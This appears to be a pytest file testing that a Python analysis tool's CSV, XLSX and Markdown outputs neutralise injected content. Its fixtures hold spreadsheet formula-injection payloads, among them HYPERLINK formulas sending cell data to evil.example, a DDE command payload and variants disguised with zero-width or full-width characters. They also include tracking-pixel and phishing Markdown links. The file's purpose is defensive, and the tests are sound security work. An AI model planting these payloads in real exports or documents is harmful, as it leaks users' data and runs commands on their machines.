"""Live formulas and markdown from data: every CSV and XLSX export goes through one neutraliser, and every
data string shown through Markdown is made literal first."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from sp_analysis import exports
from sp_analysis.plan import actions, framework, plan_files
from sp_analysis.workspace import Workspace

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "\uff1dHYPERLINK(\"http://evil.example\")",  # full-width equals sign
    "\n=1+1",  # a leading line break
    "\u200b=cmd|' /C calc'!A0",  # a zero-width space first
    " \t=SUM(A1:A9)",
    "\ufeff@SUM(A1)",
    "\u3000+1",  # ideographic space, then '+'
    "\uff0d2+3",  # full-width hyphen-minus
    "\r=1",
]


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_formula_like_text_is_neutralised(cell: str) -> None:
    assert exports.is_formula(cell)
    assert exports.neutralise(cell) == "'" + cell
    assert exports.restore(exports.neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["Acme Ltd", "'quoted'", "", "£-5", "Road repairs - north", "1+1"])
def test_ordinary_text_is_left_alone(cell: str) -> None:
    assert exports.neutralise(cell) == cell
    assert exports.restore(cell) == cell


def test_table_downloads_neutralise_every_variant() -> None:
    frame = pd.DataFrame({"Supplier": HOSTILE_CELLS})
    rows = list(csv.reader(io.StringIO(exports.to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert all(row[0].startswith("'") for row in rows[1:])
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes(frame)))
    cells = [c for (c,) in book.active.iter_rows(min_row=2)]
    assert all(c.data_type == "s" and str(c.value).startswith("'") for c in cells)


TITLE = '=HYPERLINK("http://evil.example/steal?d="&B2,"Open the plan")'


def hostile_plan(ws: Workspace) -> None:
    text = ("title,officer,measures,status\n"
            f'"{TITLE.replace(chr(34), chr(34) * 2)}",\uff1dHYPERLINK("http://evil.example"),"\n=1+1",not started\n')
    plan_files.import_plan(ws, text.encode(), "plan.csv", dt.date(2026, 1, 1))


def test_the_action_plan_csv_export_is_neutralised_and_imports_back(ws: Workspace) -> None:
    hostile_plan(ws)
    exported = plan_files.export_plan_csv(ws)
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert rows[0]["title"] == "'" + TITLE
    assert rows[0]["officer"].startswith("'\uff1d")
    assert rows[0]["measures"] == "'=1+1"  # the import strips the line break; the export still neutralises
    # The export is also the import format: reading it back gives the text as it was.
    plan_files.import_plan(ws, exported.encode(), "again.csv", dt.date(2026, 1, 2), replace_all=True)
    assert [a.title for a in actions.load_actions(ws)] == [TITLE]


def test_the_action_plan_xlsx_export_holds_no_formula(ws: Workspace, tmp_path: Path) -> None:
    hostile_plan(ws)
    data = plan_files.export_plan_xlsx(ws)
    book = openpyxl.load_workbook(io.BytesIO(data))
    formulas = [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    title = book["Actions"]["B2"].value
    assert title == "'" + TITLE
    plan_files.import_plan(ws, data, "again.xlsx", dt.date(2026, 1, 2), replace_all=True)
    assert [a.title for a in actions.load_actions(ws)] == [TITLE]


def test_the_framework_criteria_export_is_neutralised_and_imports_back(ws: Workspace) -> None:
    framework.install_framework(ws)
    text = framework.export_framework_csv(ws)
    rows = list(csv.reader(io.StringIO(text)))
    rows[1][4] = "=HYPERLINK(\"http://evil.example\")"
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    framework.import_framework_csv(ws, buffer.getvalue().encode(), "criteria.csv")
    exported = list(csv.reader(io.StringIO(framework.export_framework_csv(ws))))
    assert exported[1][4] == "'=HYPERLINK(\"http://evil.example\")"
    framework.import_framework_csv(ws, framework.export_framework_csv(ws).encode(), "again.csv")
    assert list(csv.reader(io.StringIO(framework.export_framework_csv(ws))))[1][4] == exported[1][4]


def test_rules_and_categories_csv_is_neutralised_and_restored() -> None:
    text = "rule_id,pattern\nr1,=HYPERLINK(\"http://evil.example\")\nr2,\u200b=1\nr3,plain\n"
    safe = exports.safe_csv_text(text)
    rows = list(csv.reader(io.StringIO(safe)))
    assert rows[1][1].startswith("'=") and rows[2][1].startswith("'\u200b") and rows[3][1] == "plain"
    restored = exports.restore_csv_bytes(safe.encode()).decode()
    assert list(csv.reader(io.StringIO(restored))) == list(csv.reader(io.StringIO(text)))


# --- markdown ---------------------------------------------------------------------------------------------

MARKDOWN_ATTACKS = {
    "![beacon](https://tracker.example/pixel.png?id=1)": "!\\[beacon\\](https\u2060://tracker.example/pixel.png?id=1)",
    "[Pay here](https://phish.example/login)": "\\[Pay here\\](https\u2060://phish.example/login)",
    "**URGENT** $$\\int x$$": "\\*\\*URGENT\\*\\* \\$\\$\\\\int x\\$\\$",
    "Visit www.phish.example today": "Visit www\u2060.phish.example today",
    "<img src=https://tracker.example/x.png>": "\\<img src=https\u2060://tracker.example/x.png\\>",
    "1. Acme\n# Heading": "1\\. Acme \\# Heading",
    ":red[Overdue] pay@phish.example": ":red\\[Overdue\\] pay\u2060@phish.example",
    "&lt;b&gt;": "\\&lt;b\\&gt;",
    "Smith & Sons (Ltd) £10.50: ok": "Smith & Sons (Ltd) £10.50: ok",
}


@pytest.mark.parametrize("text", MARKDOWN_ATTACKS)
def test_data_strings_are_literal_in_markdown(text: str) -> None:
    from sp_analysis.ui import md

    assert md(text) == MARKDOWN_ATTACKS[text]
